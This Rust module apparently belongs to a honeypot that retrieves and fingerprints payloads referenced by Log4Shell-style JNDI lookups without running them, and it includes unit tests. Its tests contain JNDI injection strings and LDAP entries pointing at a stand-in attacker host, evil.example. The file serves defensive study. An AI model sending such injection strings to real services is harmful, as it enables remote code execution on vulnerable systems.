//! Payload acquisition for resolved exploit targets.
//!
//! Everything here retrieves and fingerprints bytes; nothing ever runs them.
//! Failures never propagate past this crate's boundary: they come back as
//! record data inside the `FetchOutcome`.

pub mod ber;
pub mod http;
pub mod ldap;

use data_encoding::{BASE64, BASE64_NOPAD};
use sha2::{Digest, Sha256};
use tracing::{debug, warn};

use lurepot_core::{FetchOptions, ResolvedTarget, RetrievedArtifact, Scheme, Storage};

use crate::ldap::DirectoryEntry;

/// What one acquisition run produced: zero or more artifacts, plus an
/// optional record-level error for failures before any artifact existed.
#[derive(Debug, Default)]
pub struct FetchOutcome {
    pub artifacts: Vec<RetrievedArtifact>,
    pub error: Option<String>,
}

/// Acquire whatever the target offers, per scheme.
pub async fn fetch(target: &ResolvedTarget, opts: &FetchOptions) -> FetchOutcome {
    match target.scheme {
        Scheme::Ldap => fetch_directory(target, opts).await,
        Scheme::Http | Scheme::Https => fetch_http(target, opts).await,
        other => {
            debug!(scheme = ?other, "no retrieval for this scheme, recording only");
            FetchOutcome::default()
        }
    }
}

async fn fetch_http(target: &ResolvedTarget, opts: &FetchOptions) -> FetchOutcome {
    let url = target.url_string();
    let mut outcome = FetchOutcome::default();
    match http::download(&url, opts).await {
        Ok(bytes) => outcome.artifacts.push(make_artifact(&url, &bytes, ".dat", opts).await),
        Err(e) => outcome.artifacts.push(RetrievedArtifact::failed(url, e.to_string())),
    }
    outcome
}

async fn fetch_directory(target: &ResolvedTarget, opts: &FetchOptions) -> FetchOutcome {
    let url = target.url_string();
    let base = target.path.trim_start_matches('/');
    let mut outcome = FetchOutcome::default();

    let entry = match ldap::query_referral(&target.host, target.port, base, opts).await {
        Ok(entry) => entry,
        Err(e) => {
            outcome.error = Some(e.to_string());
            return outcome;
        }
    };

    let ldif = entry.to_ldif();
    outcome
        .artifacts
        .push(make_artifact(&url, ldif.as_bytes(), ".dat", opts).await);

    if opts.follow_class_reference {
        if let Some(artifact) = follow_class_reference(&url, &entry, opts).await {
            outcome.artifacts.push(artifact);
        }
    }

    outcome
}

/// Chase the code the directory entry points at, the two shapes seen in the
/// wild: a remote codebase reference, or serialized bytes inlined into the
/// entry itself.
async fn follow_class_reference(
    entry_url: &str,
    entry: &DirectoryEntry,
    opts: &FetchOptions,
) -> Option<RetrievedArtifact> {
    if let (Some(codebase), Some(factory)) =
        (entry.attribute("javaCodeBase"), entry.attribute("javaFactory"))
    {
        let class_url = format!("{codebase}{factory}.class");
        return Some(match http::download(&class_url, opts).await {
            Ok(bytes) => make_artifact(&class_url, &bytes, ".class.dat", opts).await,
            Err(e) => RetrievedArtifact::failed(class_url, e.to_string()),
        });
    }

    if entry.attribute("javaClassName") == Some("java.lang.String") {
        if let Some(encoded) = entry.attribute("javaSerializedData") {
            let source = format!("{entry_url}#javaSerializedData");
            return Some(match decode_base64(encoded, opts.max_bytes) {
                Ok(bytes) => make_artifact(&source, &bytes, ".class.dat", opts).await,
                Err(e) => RetrievedArtifact::failed(source, e),
            });
        }
    }

    None
}

fn decode_base64(encoded: &str, max_bytes: u64) -> Result<Vec<u8>, String> {
    let compact: String = encoded.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.len() as u64 > max_bytes.saturating_mul(2) {
        return Err(format!("serialized data exceeds size cap of {max_bytes} bytes"));
    }
    BASE64
        .decode(compact.as_bytes())
        .or_else(|_| BASE64_NOPAD.decode(compact.as_bytes()))
        .map_err(|e| format!("invalid base64 in serialized data: {e}"))
}

/// Hash the bytes and, when a storage directory is configured, persist them
/// under a digest-derived name.
async fn make_artifact(
    source_url: &str,
    bytes: &[u8],
    suffix: &str,
    opts: &FetchOptions,
) -> RetrievedArtifact {
    let digest = format!("{:x}", Sha256::digest(bytes));

    let (storage, error) = if let Some(dir) = &opts.storage_dir {
        let path = dir.join(format!("{}{suffix}", &digest[..16]));
        match tokio::fs::write(&path, bytes).await {
            Ok(()) => (Storage::Persisted { path }, None),
            Err(e) => {
                warn!(path = %path.display(), error = %e, "failed to persist artifact");
                (Storage::Transient, Some(format!("storage failed: {e}")))
            }
        }
    } else {
        (Storage::Transient, None)
    };

    RetrievedArtifact {
        source_url: source_url.to_string(),
        byte_length: bytes.len() as u64,
        sha256: Some(digest),
        storage,
        error,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use lurepot_core::resolve;
    use std::time::Duration;

    fn test_opts() -> FetchOptions {
        FetchOptions {
            enabled: true,
            connect_timeout: Duration::from_secs(1),
            read_timeout: Duration::from_secs(1),
            ..FetchOptions::default()
        }
    }

    fn entry(attrs: &[(&str, &str)]) -> DirectoryEntry {
        DirectoryEntry {
            name: "o=ref".to_string(),
            attributes: attrs
                .iter()
                .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
                .collect(),
        }
    }

    #[tokio::test]
    async fn unimplemented_scheme_yields_nothing() {
        let target = resolve("${jndi:rmi://evil.example/obj}").unwrap();
        let outcome = fetch(&target, &test_opts()).await;
        assert!(outcome.artifacts.is_empty());
        assert!(outcome.error.is_none());
    }

    #[tokio::test]
    async fn unreachable_directory_is_bounded_and_reported() {
        let target = resolve("${jndi:ldap://127.0.0.1:1/x}").unwrap();
        let start = std::time::Instant::now();
        let outcome = fetch(&target, &test_opts()).await;
        assert!(start.elapsed() < Duration::from_secs(2));
        assert!(outcome.error.is_some());
        assert!(outcome.artifacts.is_empty());
    }

    #[tokio::test]
    async fn unreachable_http_target_becomes_failed_artifact() {
        let target = resolve("${jndi:http://127.0.0.1:1/x.class}").unwrap();
        let outcome = fetch(&target, &test_opts()).await;
        assert!(outcome.error.is_none());
        assert_eq!(outcome.artifacts.len(), 1);
        assert!(outcome.artifacts[0].error.is_some());
        assert!(outcome.artifacts[0].sha256.is_none());
    }

    #[tokio::test]
    async fn serialized_data_is_decoded_inline() {
        let encoded = BASE64.encode(b"\xca\xfe\xba\xbeclassbytes");
        let e = entry(&[
            ("javaClassName", "java.lang.String"),
            ("javaSerializedData", &encoded),
        ]);

        let artifact = follow_class_reference("ldap://evil.example:1389/x", &e, &test_opts())
            .await
            .unwrap();
        assert_eq!(artifact.byte_length, 14);
        assert!(artifact.sha256.is_some());
        assert!(artifact.error.is_none());
        assert_eq!(artifact.source_url, "ldap://evil.example:1389/x#javaSerializedData");
    }

    #[tokio::test]
    async fn serialized_data_tolerates_line_breaks() {
        let encoded = BASE64.encode(b"hello world payload");
        let wrapped = format!("{}\n{}", &encoded[..10], &encoded[10..]);
        let e = entry(&[
            ("javaClassName", "java.lang.String"),
            ("javaSerializedData", &wrapped),
        ]);

        let artifact = follow_class_reference("ldap://evil.example:1389/x", &e, &test_opts())
            .await
            .unwrap();
        assert!(artifact.error.is_none());
        assert_eq!(artifact.byte_length, 19);
    }

    #[tokio::test]
    async fn invalid_serialized_data_becomes_failed_artifact() {
        let e = entry(&[
            ("javaClassName", "java.lang.String"),
            ("javaSerializedData", "!!! not base64 !!!"),
        ]);

        let artifact = follow_class_reference("ldap://evil.example:1389/x", &e, &test_opts())
            .await
            .unwrap();
        assert!(artifact.error.is_some());
        assert!(artifact.sha256.is_none());
    }

    #[tokio::test]
    async fn entry_without_references_yields_no_followup() {
        let e = entry(&[("objectClass", "top")]);
        assert!(
            follow_class_reference("ldap://evil.example:1389/x", &e, &test_opts())
                .await
                .is_none()
        );
    }

    #[tokio::test]
    async fn artifacts_persist_under_digest_names() {
        let dir = tempfile::tempdir().unwrap();
        let opts = FetchOptions {
            storage_dir: Some(dir.path().to_path_buf()),
            ..test_opts()
        };

        let artifact = make_artifact("http://evil.example/x", b"payload bytes", ".dat", &opts).await;
        assert!(artifact.error.is_none());
        let Storage::Persisted { path } = &artifact.storage else {
            panic!("expected persisted storage");
        };
        assert_eq!(tokio::fs::read(path).await.unwrap(), b"payload bytes");

        let digest = artifact.sha256.as_deref().unwrap();
        let file_name = path.file_name().unwrap().to_str().unwrap();
        assert_eq!(file_name, format!("{}.dat", &digest[..16]));
    }

    #[tokio::test]
    async fn unwritable_storage_degrades_to_transient() {
        let opts = FetchOptions {
            storage_dir: Some(std::path::PathBuf::from("/nonexistent/lurepot-test")),
            ..test_opts()
        };

        let artifact = make_artifact("http://evil.example/x", b"bytes", ".dat", &opts).await;
        assert_eq!(artifact.storage, Storage::Transient);
        assert!(artifact.sha256.is_some());
        assert!(artifact.error.as_deref().unwrap().starts_with("storage failed"));
    }
}
